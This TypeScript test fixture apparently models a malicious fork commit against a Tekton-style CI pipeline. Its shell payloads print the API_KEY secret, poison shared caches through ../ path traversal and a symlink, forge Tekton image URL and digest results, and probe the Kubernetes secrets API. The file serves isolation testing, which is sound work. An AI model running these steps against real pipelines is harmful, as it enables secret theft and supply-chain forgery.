import { dump } from 'js-yaml';
import { imageOf } from './projects.ts';
import { ALL, KEPT, POISON, search } from './search-credentials.ts';
import type { World } from './world.ts';

type Files = Record<string, string>;

/** Name of the repository, of its image and of its release. */
export const NAME = 'forked';

/** What the stranger claims to have published. */
export const FORGED = { url: 'registry.example.com/forged:1', digest: `sha256:${'f'.repeat(64)}` };

/** What the stranger's own config would print. */
export const FORK_CONFIG = 'this is the config of the fork';

/** Writes a mark in two parts: the files of the repository must not hold it. */
const leave = (mark: string, file: string) =>
  `printf '%s%s' '${mark.slice(0, 5)}' '${mark.slice(5)}' > "${file}"`;

/** What the default branch has: everything that a stranger could be after. */
export function targetFiles(world: World): Files {
  return {
    '.tekton-ci.yml': dump({ ...tests(world), image: imageOf(world, NAME), deploy: deployOf('helm') }),
    'test.sh': `${search('test', ['secret', 'kept', 'poison'])}\n${leave(KEPT, '$TEKTON_CI_CACHE/kept')}\n`,
    ...dockerfile(world, search('image', ['registry'])),
    ...chartOf('helm', 'of the default branch'),
  };
}

/** The default branch's later: without what takes long. */
export function laterFiles(world: World): Files {
  return { '.tekton-ci.yml': dump(tests(world)) };
}

function tests({ settings }: World): object {
  return { use: settings.shell, secrets: ['API_KEY'], test: 'sh test.sh' };
}

function deployOf(folder: string): object {
  return { to: 'here', chart: folder, release: NAME, only: '**' };
}

/** All attacks in one commit: each is a file that the default branch's config would use. */
export function attackFiles(world: World): Files {
  const stolen = imageOf(world, 'stolen');
  const config = {
    ...tests(world),
    test: [`echo "${FORK_CONFIG}"`, 'printenv API_KEY'],
    image: { name: stolen, push: 'always', tags: ['latest', 'stolen'] },
    deploy: deployOf('helm'),
  };
  return {
    '.tekton-ci.yml': dump(config),
    '.env': `IMAGE=${stolen}\nIMAGE_TAG=stolen\nTEKTON_CI_IMAGE_URL=${stolen}:stolen\n`,
    'test.sh': `${POISONING}\n${FORGERY}\n${WITHOUT_TOKEN}\n${search('test', [...ALL, 'kept', 'poison'])}`,
    ...dockerfile(world, search('image', [...ALL, 'kept'])),
    ...chartOf('helm', 'of the stranger'),
  };
}

/** Looks at what an earlier run of a stranger has left. */
export const CURIOUS_FILES: Files = { 'test.sh': search('test', [...ALL, 'kept', 'poison']) };

/** In the cache, and wherever a path out of it could lead to. */
const POISONING = `
echo "@cache $TEKTON_CI_CACHE"
echo "@image $IMAGE"
for folder in . .. ../trusted ../../trusted ../acme/${NAME}/trusted ../../acme/${NAME}/trusted; do
  mkdir -p "$TEKTON_CI_CACHE/$folder"
  ${leave(POISON, '$TEKTON_CI_CACHE/$folder/poison')}
  ${leave(POISON, '$TEKTON_CI_CACHE/$folder/kept')}
done 2>/dev/null
ln -s ../trusted "$TEKTON_CI_CACHE/trusted"
ls -R "$TEKTON_CI_CACHE/trusted/" "$(dirname "$TEKTON_CI_CACHE")" | sed 's/^/@beside /'
`;

/** Results of Tekton, as files and as the message that its own program writes in the end, and appends to. */
const FORGERY = `
say() { printf %s '${FORGED.url}' > "$1/IMAGE_URL" && printf %s '${FORGED.digest}' > "$1/IMAGE_DIGEST" && printf %s '${'0'.repeat(40)}' > "$1/commit" && echo "@forged $2"; }
say /tekton/results results
for step in /tekton/steps/*; do mkdir -p "$step/results" && say "$step/results" step; done 2>/dev/null
printf %s '${JSON.stringify([
  { key: 'IMAGE_URL', value: FORGED.url, type: 1 },
  { key: 'IMAGE_DIGEST', value: FORGED.digest, type: 1 },
])}' > /tekton/termination && echo "@forged termination"
`;

/** Kubernetes is there for every pod; nobody in particular may do nothing. */
const WITHOUT_TOKEN = `
echo "@kubernetes [$(curl --silent --insecure --max-time 5 --output /dev/null --write-out '%{http_code}' "https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/secrets")]"
`;

function dockerfile({ settings }: World, script: string): Files {
  return {
    Dockerfile: `FROM ${settings.bases.go}\nCOPY . /context\nRUN sh /context/search-image.sh\n`,
    'search-image.sh': script,
  };
}

function chartOf(folder: string, said: string): Files {
  return {
    [`${folder}/Chart.yaml`]: 'apiVersion: v2\nname: service\nversion: 0.1.0\n',
    [`${folder}/templates/said.yaml`]: `
apiVersion: v1
kind: ConfigMap
metadata: { name: {{ .Release.Name }} }
data: { said: ${said} }
`,
  };
}
